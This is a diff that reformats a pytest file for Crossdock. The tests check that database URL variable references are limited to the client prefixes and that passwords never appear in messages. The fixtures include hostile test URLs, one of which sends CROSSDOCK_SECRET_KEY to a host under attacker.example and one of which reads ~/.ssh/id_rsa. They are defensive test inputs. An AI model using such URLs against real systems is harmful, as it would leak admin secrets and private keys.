@@ -1,6 +1,7 @@
 """A db integration's `${VAR}` references and `password_env` read only CLIENT_DB_* and CROSSDOCK_CLIENT_*
 variables: Crossdock's own secrets (the admin password and token, CROSSDOCK_SECRET_KEY) are never put
 into a client URL, and no message shows a resolved URL's password or query string (docs/how-to/operator/outbound-and-drops.md)."""
+
 from __future__ import annotations
 
 import dataclasses
@@ -37,12 +38,15 @@ def _issues(document: dict) -> list[dict[str, str]]:
     return validation_issues(refused.value)
 
 
-@pytest.mark.parametrize("url", [
-    "postgresql+psycopg://erp:${CROSSDOCK_ADMIN_PASSWORD}@127.0.0.1:1/erp",
-    "postgresql+psycopg://erp@${CROSSDOCK_SECRET_KEY}.attacker.example/erp",
-    "mysql+pymysql://erp@127.0.0.1:1/erp?program_name=${CROSSDOCK_ADMIN_TOKEN}",
-    "sqlite:///${HOME}/.ssh/id_rsa",
-])
+@pytest.mark.parametrize(
+    "url",
+    [
+        "postgresql+psycopg://erp:${CROSSDOCK_ADMIN_PASSWORD}@127.0.0.1:1/erp",
+        "postgresql+psycopg://erp@${CROSSDOCK_SECRET_KEY}.attacker.example/erp",
+        "mysql+pymysql://erp@127.0.0.1:1/erp?program_name=${CROSSDOCK_ADMIN_TOKEN}",
+        "sqlite:///${HOME}/.ssh/id_rsa",
+    ],
+)
 def test_a_reference_outside_the_allowed_prefixes_is_refused_when_saved_naming_the_variable(crossdock_secrets, url):
     issues = _issues(_db(url))
     assert [i["field"] for i in issues] == ["db.url"]
@@ -68,11 +72,12 @@ def test_the_admin_api_answers_422_without_the_value(sqlite_store, crossdock_sec
 
 def test_a_configuration_stored_before_the_rule_is_refused_at_pull_and_probe_without_the_value(sqlite_store, crossdock_secrets):
     stored_before = {"stored": True}  # read back from the store: not validated again
-    config = Integration.model_validate(_db("postgresql+psycopg://erp:${CROSSDOCK_ADMIN_PASSWORD}@127.0.0.1:1/erp"),
-                                        context=stored_before)
+    config = Integration.model_validate(_db("postgresql+psycopg://erp:${CROSSDOCK_ADMIN_PASSWORD}@127.0.0.1:1/erp"), context=stored_before)
     probe = probe_db(config)
-    assert "may only read environment variables named CLIENT_DB_* or CROSSDOCK_CLIENT_*, not CROSSDOCK_ADMIN_PASSWORD" \
-        in probe.error and ADMIN_PASSWORD not in repr(probe)
+    assert (
+        "may only read environment variables named CLIENT_DB_* or CROSSDOCK_CLIENT_*, not CROSSDOCK_ADMIN_PASSWORD" in probe.error
+        and ADMIN_PASSWORD not in repr(probe)
+    )
     stored = create_integration(sqlite_store, Integration.model_validate(_db("postgresql+psycopg://erp@127.0.0.1:1/erp")))
     stored = dataclasses.replace(stored, config=config)
     with pytest.raises(PullError) as failed:
@@ -84,8 +89,12 @@ def test_allowed_prefixes_resolve_and_no_message_shows_the_password_or_the_query
     monkeypatch.setenv("CROSSDOCK_CLIENT_DB_USER", "erp")
     monkeypatch.setenv("CLIENT_DB_PASSWORD", "pw-from-env-77")
     monkeypatch.setenv("CLIENT_DB_APP", "query-secret-55")
-    config = Integration.model_validate(_db("postgresql+psycopg://${CROSSDOCK_CLIENT_DB_USER}@127.0.0.1:1/erp"
-                                            "?application_name=${CLIENT_DB_APP}", password_env="CLIENT_DB_PASSWORD"))
+    config = Integration.model_validate(
+        _db(
+            "postgresql+psycopg://${CROSSDOCK_CLIENT_DB_USER}@127.0.0.1:1/erp?application_name=${CLIENT_DB_APP}",
+            password_env="CLIENT_DB_PASSWORD",
+        )
+    )
     probe = probe_db(config, timeout=2)
     assert not probe.reachable and probe.source == "postgresql+psycopg://erp:***@127.0.0.1:1/erp"
     assert "pw-from-env-77" not in repr(probe) and "query-secret-55" not in repr(probe)
